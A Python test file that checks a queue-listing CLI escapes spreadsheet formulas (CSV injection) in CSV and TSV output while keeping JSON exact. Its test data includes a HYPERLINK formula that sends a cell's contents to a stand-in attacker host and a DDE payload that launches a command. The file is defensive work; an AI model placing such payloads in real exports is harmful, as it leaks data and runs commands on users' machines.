"""CSV and TSV of server text a spreadsheet would run as a formula (CSV injection): a leading `'`, as
spreadsheet users expect; JSON keeps the exact value; the table shows it literally."""

from __future__ import annotations

import csv
import io
import json

import pytest

from cqtui.ci.kinds import PIC
from cqtui.ci.models import Queue
from cqtui.commands.output import render_delimited
from reliability_helpers import cli_env, queues_args, run_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "-"]
HARMLESS = ["queue-1", "a=b", "50%", "'quoted"]


def _queues(names: list[str]) -> list[Queue]:
    return [
        Queue(queue_id=f"p{index:032x}", name=name, state="Active", max_size=-1, category="PicProcessing")
        for index, name in enumerate(names)
    ]


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_a_field_a_spreadsheet_would_run_gets_a_leading_quote(tsv):
    text = render_delimited(PIC.details, _queues(FORMULAS + HARMLESS), tsv=tsv)
    rows = list(csv.reader(io.StringIO(text), delimiter="\t" if tsv else ","))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + name for name in FORMULAS] + HARMLESS
    assert {row[3] for row in rows[1:]} == {"-1"}  # a number stays a number


def test_the_cli_guards_csv_and_tsv_and_keeps_json_exact(emulator, tmp_path):
    emulator.queues = _queues(FORMULAS)
    env = cli_env(tmp_path / "config.toml")
    csv_run = run_cli(*queues_args(emulator.base_url, "-o", "csv"), env=env)
    tsv_run = run_cli(*queues_args(emulator.base_url, "-o", "tsv"), env=env)
    json_run = run_cli(*queues_args(emulator.base_url, "-o", "json"), env=env)
    table_run = run_cli(*queues_args(emulator.base_url, "-o", "table"), env=env)
    assert [row[1] for row in list(csv.reader(io.StringIO(csv_run.stdout)))[1:]] == ["'" + n for n in FORMULAS]
    assert [line.split("\t")[1] for line in tsv_run.stdout.splitlines()[1:]] == ["'" + n for n in FORMULAS]
    assert [queue["Name"] for queue in json.loads(json_run.stdout)["QueueList"]] == FORMULAS
    assert "=HYPERLINK(" in table_run.stdout and "'=HYPERLINK(" not in table_run.stdout
